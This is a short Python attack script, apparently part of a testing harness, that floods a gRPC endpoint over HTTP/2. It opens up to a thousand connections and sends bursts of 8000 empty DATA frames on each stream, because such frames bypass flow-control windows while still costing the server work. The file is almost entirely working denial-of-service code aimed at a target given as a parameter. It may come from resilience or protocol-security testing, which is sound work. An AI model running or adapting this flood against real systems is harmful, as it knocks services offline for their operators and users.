"""Sends empty DATA frames: no window limits them, and each costs work."""

import attack
import http2

PATH = "/vtlookup.v1.LookupService/StreamLookup"


def run(target, stage):
    """Makes one call that goes on and sends no data."""
    frames = 0
    while not stage.over() and len(stage.held) < 1000:
        connection = http2.Connection(target)
        stage.held.append(connection)
        stream = connection.call(PATH)
        burst = http2.frame(http2.DATA, 0, stream) * 8000
        while (not stage.over() and stream not in connection.ended and
               connection.send(burst, 0.5)):
            frames += 8000
            connection.pump(0)
    stage.figures["frames"] = frames
    stage.figures["connections"] = len(stage.held)


if __name__ == "__main__":
    attack.main(run, seconds=5)
